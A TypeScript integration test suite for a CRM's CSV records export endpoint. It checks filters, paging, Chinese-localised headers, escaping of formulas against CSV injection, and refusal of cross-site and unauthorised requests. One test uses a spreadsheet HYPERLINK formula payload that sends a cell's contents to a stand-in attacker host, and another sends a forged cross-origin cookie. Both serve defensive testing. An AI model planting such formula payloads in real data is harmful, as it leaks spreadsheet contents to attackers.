import type { AddressInfo } from 'node:net';
import type { Server } from 'node:http';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHttpServer } from '@funnel/api';
import { RECORD_RESULT, startHarness, type Harness, type TenantKeys } from './harness';

// A records export (GET /export/records.csv) over real HTTP: exactly the records a filter selects, in pages, with the
// reader's column titles and stage names, and every refusal before a byte of CSV.

const CREATE = `mutation($i: CreateRecordInput!) { createRecord(input: $i) { ${RECORD_RESULT} } }`;
const TRANSITION = `mutation($i: TransitionRecordInput!) { transitionRecord(input: $i) { ${RECORD_RESULT} } }`;
/** More than two of the export's pages (500 records each). */
const MANY = 1_100;

let h: Harness;
let t: TenantKeys;
let http: Server;
let base: string;
const sqlIds: string[] = [];

/** GETs an export with a key (or none) and returns the status, the content type and the body. */
async function exported(query: string, key: string | null = t.manager): Promise<{ status: number; type: string | null; body: string }> {
  const response = await fetch(`${base}/export/records.csv?${query}`, { headers: key ? { authorization: `Bearer ${key}` } : {} });
  return { status: response.status, type: response.headers.get('content-type'), body: await response.text() };
}

/** The rows of a CSV body (the byte order mark left out), header first. */
const rows = (body: string) => parse(body, { bom: true }) as string[][];

beforeAll(async () => {
  h = await startHarness();
  t = await h.tenant('Exports');
  http = createHttpServer(h.server);
  await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(http.address() as AddressInfo).port}`;
  // Records of both salespeople; the first 30 taken to SQL by their owner.
  const made = await Promise.all(
    Array.from({ length: MANY }, async (_, i) => {
      const owner = i % 2 === 0 ? t.salesId : t.sales2Id;
      const out = await h.gql(t.manager, CREATE, {
        i: { workflowKey: 'standard_trunk', owner, fields: { name: `Lead ${i}`, email: `lead${i}@example.com`, companyName: `Firm ${i}`, amount: 1000 + i } },
      });
      return { id: out.data?.createRecord.id as string, key: i % 2 === 0 ? t.sales : t.sales2 };
    }),
  );
  for (const { id, key } of made.slice(0, 30)) {
    const mql = await h.gql(t.manager, TRANSITION, { i: { id, transition: 'qualify', expectedVersion: 1 } });
    const sql = await h.gql(key, TRANSITION, { i: { id, transition: 'accept', expectedVersion: mql.data?.transitionRecord.version } });
    expect(sql.data?.transitionRecord.stage, JSON.stringify(sql)).toBe('sql');
    sqlIds.push(id);
  }
});
afterAll(async () => {
  await new Promise<void>((resolve) => http?.close(() => resolve()));
  await h?.close();
});

describe('a records export', () => {
  it('holds exactly the records the filter selects, titled and named in the reader’s language', async () => {
    const { status, type, body } = await exported('workflowKey=standard_trunk&stage=sql');
    expect(status, body).toBe(200);
    expect(type).toBe('text/csv; charset=utf-8');
    // A byte order mark first (fetch's text() drops it), so spreadsheets read the file as UTF-8.
    const bytes = new Uint8Array(
      await (
        await fetch(`${base}/export/records.csv?workflowKey=standard_trunk&stage=sql`, { headers: { authorization: `Bearer ${t.manager}` } })
      ).arrayBuffer(),
    );
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...records] = rows(body);
    expect(header?.slice(0, 6)).toEqual(['Record ID', 'Stage', 'Owner', 'Created', 'In stage since', 'Probability (%)']);
    expect(header).toContain('Company name');
    expect(records.map((row) => row[0]).sort()).toEqual([...sqlIds].sort());
    expect(new Set(records.map((row) => row[1]))).toEqual(new Set(['SQL']));
    const company = header?.indexOf('Company name') as number;
    expect(records.every((row) => /^Firm \d+$/.test(row[company] as string))).toBe(true);
  });

  it('streams every record of a large list once, across its pages', async () => {
    const { status, body } = await exported('workflowKey=standard_trunk');
    expect(status).toBe(200);
    const ids = rows(body)
      .slice(1)
      .map((row) => row[0]);
    expect(ids.length).toBe(MANY);
    expect(new Set(ids).size).toBe(MANY);
  });

  it('takes the board’s filters: a salesperson’s own records, by search', async () => {
    const mine = rows((await exported('workflowKey=standard_trunk&scope=mine&stage=sql', t.sales)).body).slice(1);
    expect(mine.length).toBe(15);
    const owner = rows((await exported('workflowKey=standard_trunk&scope=mine&stage=sql', t.sales)).body)[0]?.indexOf('Owner') as number;
    expect(new Set(mine.map((row) => row[owner])).size).toBe(1);
    // Each word the start of a word: "firm 109" is Firm 109 and Firm 1090 to 1099.
    const found = rows((await exported('workflowKey=standard_trunk&search=firm%20109')).body).slice(1);
    expect(found).toHaveLength(11);
  });

  it('is titled in Chinese for a Chinese reader, with the stages’ Chinese names', async () => {
    const [header, first] = rows((await exported('workflowKey=standard_trunk&stage=sql&locale=zh-Hans')).body);
    expect(header?.slice(0, 3)).toEqual(['记录 ID', '阶段', '负责人']);
    expect(header).toContain('公司名称');
    expect(first?.[1]).toBe('销售认可线索 (SQL)');
  });

  it('writes text a spreadsheet would run as a formula as text (CSV injection), and numbers as numbers', async () => {
    const company = '=HYPERLINK("https://evil.example/?"&A1,"Acme")';
    const made = await h.gql(t.manager, CREATE, {
      i: { workflowKey: 'standard_trunk', owner: t.salesId, fields: { name: '@risky', email: 'risky@example.com', companyName: company, amount: 500 } },
    });
    const id = made.data?.createRecord.id as string;
    const [header, ...records] = rows((await exported('workflowKey=standard_trunk&search=risky')).body);
    const row = records.find((r) => r[0] === id) as string[];
    expect(row[header?.indexOf('Company name') as number]).toBe(`'${company}`);
    expect(row[header?.indexOf('Contact name') as number]).toBe("'@risky");
    expect(row[header?.indexOf('Amount') as number]).toBe('500');
  });

  it('is refused to a session cookie sent from another site, as GraphQL refuses it', async () => {
    const fromElsewhere = await fetch(`${base}/export/records.csv?workflowKey=standard_trunk`, {
      headers: { cookie: 'funnel_session=fl_anything', origin: 'https://evil.example' },
    });
    expect(fromElsewhere.status).toBe(403);
    expect(JSON.parse(await fromElsewhere.text()).errors[0].extensions.code).toBe('CROSS_SITE_REFUSED');
    // From the app's own page (a download link: same-origin, no Origin), the cookie is read — this one signs nobody in.
    const fromHere = await fetch(`${base}/export/records.csv?workflowKey=standard_trunk`, {
      headers: { cookie: 'funnel_session=fl_anything', 'sec-fetch-site': 'same-origin' },
    });
    expect(fromHere.status).toBe(401);
  });

  it('is refused before any CSV: nobody signed in, an unknown or repeated parameter, no workflow, a key that may not read records', async () => {
    const anonymous = await exported('workflowKey=standard_trunk', null);
    expect(anonymous.status).toBe(401);
    expect(JSON.parse(anonymous.body).errors[0].extensions.code).toBe('UNAUTHENTICATED');
    const unknown = await exported('workflowKey=standard_trunk&stag=sql');
    expect(unknown.status).toBe(400);
    expect(JSON.parse(unknown.body).errors[0].message).toMatch(/^\/query\/stag: is not a parameter/);
    expect((await exported('workflowKey=standard_trunk&stage=sql&stage=mql')).status).toBe(400);
    expect(JSON.parse((await exported('stage=sql')).body).errors[0].message).toMatch(/^\/query\/workflowKey: is required/);
    expect(JSON.parse((await exported('workflowKey=standard_trunk&inPool=yes')).body).errors[0].message).toMatch(
      /^\/query\/inPool: must be one of true, false/,
    );
    const missing = await exported('workflowKey=nothing_here');
    expect(missing.status).toBe(404);
    const scoped = await h.gql(t.admin, 'mutation($i: CreateApiKeyInput!) { createApiKey(input: $i) { ... on CreateApiKeyPayload { token } } }', {
      i: { name: 'one record', userId: t.managerId, scope: { access: 'operations', operations: ['record'] } },
    });
    const refused = await exported('workflowKey=standard_trunk', scoped.data?.createApiKey.token);
    expect(refused.status).toBe(403);
    expect(JSON.parse(refused.body).errors[0].message).toMatch(/may not call records/);
  });
});
